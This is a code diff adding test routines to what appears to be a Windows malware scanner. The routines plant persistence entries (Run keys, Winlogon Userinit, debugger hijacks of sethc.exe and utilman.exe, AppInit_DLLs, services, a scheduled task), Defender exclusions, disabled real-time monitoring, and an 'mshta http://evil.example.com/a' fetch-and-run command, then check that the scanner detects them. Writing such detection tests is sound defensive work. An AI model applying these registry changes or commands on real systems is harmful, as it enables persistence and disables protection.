@@ -10,6 +10,7 @@ import hashlib
 import json
 import os
 import shutil
+import socket
 import subprocess
 import sys
 import time
@@ -23,7 +24,17 @@ from lamsach.scanner.actions.recover import recover
 from lamsach.scanner.actions.undo import restore
 from lamsach.scanner.actions.values import disable_value
 from lamsach.scanner.actions.vault import Vault
+from lamsach.scanner.checks.context import Context
+from lamsach.scanner.checks.memory import memory_of
+from lamsach.scanner.checks.processes import check_connections
+from lamsach.scanner.checks.settings import check_protection, check_proxy
+from lamsach.scanner.checks.start_windows import start_windows
+from lamsach.scanner.control import Control
 from lamsach.scanner.findings import Target, TargetKind
+from lamsach.scanner.index import Index, build_index
+from lamsach.scanner.opening import Skipped
+from lamsach.scanner.options import Options
+from lamsach.scanner.rules import MEMORY, Searcher, compile_rules, rule_sources
 
 FOLDER = Path(r"C:\checks")
 MANAGER = r"SYSTEM\CurrentControlSet\Control\Session Manager"
@@ -201,6 +212,145 @@ def settings() -> object:
             restore(kept, item)
             seen[name] = away and api.QueryValueEx(key, name) == (data, kind)
     return seen
+
+
+def odd_types() -> object:
+    """Run keys and settings whose data is not of the type that it says, beside one that is bad: the checks read all of them."""
+    api: Any = import_module("winreg")
+    raw: Any = ctypes.WinDLL("advapi32")  # type: ignore[attr-defined,unused-ignore]
+    internet = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Internet Settings"
+    winlogon = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"
+    defender = r"SOFTWARE\Microsoft\Windows Defender"
+    options = rf"{winlogon.rpartition(chr(92))[0]}\Image File Execution Options\sethc.exe"
+    bad = "mshta http://evil.example.com/a"
+    half = bad.encode("utf-16-le")[:-1]
+    data: tuple[tuple[str, int, bytes], ...] = (
+        ("no end", api.REG_SZ, bad.encode("utf-16-le")),
+        ("half a letter", api.REG_SZ, half),
+        ("bytes as text", api.REG_SZ, b"\xff\xfe\xff"),
+        ("short number", api.REG_DWORD, b"\x01\x02\x03"),
+        ("long number", api.REG_DWORD, b"\x01" * 9),
+        ("short quad", api.REG_QWORD, b"\x01"),
+        ("several, no end", api.REG_MULTI_SZ, "a\0b".encode("utf-16-le")),
+        ("nothing", api.REG_NONE, b""),
+        ("unknown type", 4711, b"abc"),
+        ("a link", api.REG_LINK, "x".encode("utf-16-le")),
+        ("numbers", api.REG_BINARY, bytes(range(256)) * 40),
+        ("expands", api.REG_EXPAND_SZ, "%nothing%%SystemRoot%\0".encode("utf-16-le")),
+        ("surrogate", api.REG_SZ, b"\x00\xd8a\0\0\0"),
+    )
+    places = (
+        (internet, "ProxyServer"),
+        (internet, "ProxyEnable"),
+        (winlogon, "Shell"),
+        (options, "Debugger"),
+    )
+    hives = {"HKCU": api.HKEY_CURRENT_USER, "HKLM": api.HKEY_LOCAL_MACHINE}
+    run = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
+    refused = []
+
+    def put(hive: str, path: str, name: str, kind: int, content: bytes) -> None:
+        with api.CreateKeyEx(hives[hive], path, 0, api.KEY_ALL_ACCESS | api.KEY_WOW64_64KEY) as key:
+            failed = raw.RegSetValueExW(ctypes.c_void_p(int(key)), name, 0, kind, content, len(content))
+        if failed:
+            refused.append(name)
+
+    for name, kind, content in data:
+        for hive in hives:
+            put(hive, run, name, kind, content)
+    for path, name in places:
+        put("HKLM" if path != internet else "HKCU", path, name, api.REG_DWORD, b"\x07")
+    put("HKLM", rf"{defender}\Exclusions\Paths", "C:\\", api.REG_BINARY, b"\xff")
+    put(
+        "HKLM",
+        rf"{defender}\Real-Time Protection",
+        "DisableRealtimeMonitoring",
+        api.REG_SZ,
+        "1".encode("utf-16-le"),
+    )
+    put("HKLM", r"SYSTEM\CurrentControlSet\Services\Odd", "ImagePath", api.REG_BINARY, half)
+    context = planted()
+    for check in (start_windows, check_proxy, check_protection):
+        check(context)
+    seen = sorted({(finding.reason, finding.subject.rpartition(chr(92))[2]) for finding in context.findings})
+    return {"refused": refused, "entries": context.counts.start_entries, "found": seen}
+
+
+def planted() -> Context:
+    """A context with a list of one name."""
+    listed = FOLDER / "list.txt"
+    listed.write_text("evil.example.com\n")
+    loaded = build_index([str(listed)])
+    return Context(Options(), Index(loaded.path), Control())
+
+
+def starts() -> object:
+    """One bad thing in each place from which Windows starts something, and what a look says of them."""
+    api: Any = import_module("winreg")
+    current = r"SOFTWARE\Microsoft\Windows\CurrentVersion"
+    nt = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion"
+    bad = "mshta http://evil.example.com/a"
+    wanted = [
+        (api.HKEY_CURRENT_USER, rf"{current}\RunOnce", "once", bad),
+        (api.HKEY_LOCAL_MACHINE, rf"{current}\Policies\Explorer\Run", "policy", bad),
+        (api.HKEY_LOCAL_MACHINE, r"SYSTEM\CurrentControlSet\Services\Bad", "ImagePath", bad),
+        (
+            api.HKEY_LOCAL_MACHINE,
+            r"SYSTEM\CurrentControlSet\Services\Bad2\Parameters",
+            "ServiceDll",
+            r"\\evil.example.com\a.dll",
+        ),
+        (api.HKEY_LOCAL_MACHINE, rf"{nt}\Winlogon", "Userinit", rf"C:\windows\system32\userinit.exe,{bad}"),
+        (api.HKEY_LOCAL_MACHINE, rf"{nt}\Image File Execution Options\utilman.exe", "Debugger", "cmd.exe"),
+        (api.HKEY_LOCAL_MACHINE, rf"{nt}\Windows", "AppInit_DLLs", r"C:\users\public\x.dll"),
+    ]
+    for hive, path, name, text in wanted:
+        with api.CreateKeyEx(hive, path, 0, api.KEY_ALL_ACCESS | api.KEY_WOW64_64KEY) as key:
+            api.SetValueEx(key, name, 0, api.REG_SZ, text)
+    task = Path(r"C:\windows\System32\Tasks\Bad")
+    task.parent.mkdir(parents=True, exist_ok=True)
+    task.write_bytes(
+        f"<Task><Actions><Exec><Command>mshta</Command><Arguments>{bad[6:]}</Arguments></Exec></Actions></Task>".encode(
+            "utf-16"
+        )
+    )
+    link = Path.home() / "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/bad.vbs"
+    link.parent.mkdir(parents=True, exist_ok=True)
+    link.write_text("x")
+    context = planted()
+    start_windows(context)
+    seen = {(finding.reason, finding.subject.rpartition(chr(92))[2]) for finding in context.findings}
+    return {"found": sorted(seen), "folder": any(name.endswith("bad.vbs") for name in context.starting)}
+
+
+def memory() -> object:
+    """A program whose memory holds what the rules look for: found there, and a program that is gone is told as gone."""
+    code = "a = 'donate.v2.' + 'xmrig.com' + ' random' + 'x crypto' + 'night'; print('ready', flush=True); input()"
+    with subprocess.Popen(
+        [sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE
+    ) as child:
+        assert child.stdout is not None
+        child.stdout.readline()
+        searcher = Searcher(compile_rules(rule_sources(own=MEMORY)), 60)
+        found = {hit.name for piece in memory_of(child.pid, 1 << 28) for hit in searcher.search(piece)}
+        child.kill()
+        child.wait()
+    try:
+        gone = str(len(list(memory_of(child.pid, 1 << 20))))
+    except Skipped as skipped:
+        gone = skipped.reason
+    return {"found": sorted(found), "gone": gone}
+
+
+def connected() -> object:
+    """The live connections, one of them our own."""
+    context = planted()
+    with (
+        socket.create_server(("127.0.0.1", 0)) as server,
+        socket.create_connection(server.getsockname()),
+    ):
+        check_connections(context)
+    return {"connections": context.counts.connections > 0, "skips": [skip.reason for skip in context.skips]}
 
 
 def signatures() -> object:
